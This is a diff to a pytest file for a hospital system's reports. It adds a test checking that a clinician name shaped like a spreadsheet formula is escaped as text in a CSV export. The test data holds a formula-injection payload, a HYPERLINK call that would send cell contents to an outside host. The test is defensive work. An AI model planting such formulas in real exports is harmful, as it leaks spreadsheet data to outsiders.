@@ -7,10 +7,13 @@ The reports' history is the hand-counted one of tests/reports/conftest.py:
 on Ward 12 one patient is discharged on D+1 (a count below 5, suppressed)
 and five on D+2; the medical unit discharges six in March."""
 
+import csv
+import io
 import re
 
 import pytest
 
+from tests.access.conftest import browser  # noqa: F401  (the pages' fixture)
 from tests.journal import given
 from tests.patients.registry import add_patient
 from tests.reports.conftest import VITALS, D, at, head_of_medicine, history  # noqa: F401  (the history and its fixtures)
@@ -226,3 +229,22 @@ def test_a_head_who_is_no_longer_a_clinician_reads_no_report(
     assert alice.execute("SELECT hms_current_role() AS r").fetchone()["r"] == "external_specialist"
     assert alice.execute("SELECT hms_report_units() AS u").fetchone()["u"] == []
     assert alice.execute("SELECT count(*) AS n FROM report_flow_unit_month").fetchone()["n"] == 0
+
+
+def test_a_name_that_reads_as_a_formula_is_written_as_text_in_the_csv(
+    owner,
+    cast,
+    browser,  # noqa: F811
+    history,  # noqa: F811
+):
+    """A clinician's name is typed by an administrator; one that starts like
+    a spreadsheet formula must not run as one when a head opens the file."""
+    name = '=HYPERLINK("https://example.org/?"&A1,"Dr Alice")'
+    owner.execute("UPDATE app_user SET full_name = %s WHERE id = %s", [name, cast.alice])
+    response = browser("adam").get(
+        "/reports/access/access_clinician_month.csv?from_day=2026-03-01&to_day=2026-03-31"
+    )
+    assert response.status_code == 200
+    cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row]
+    assert "'" + name in cells
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
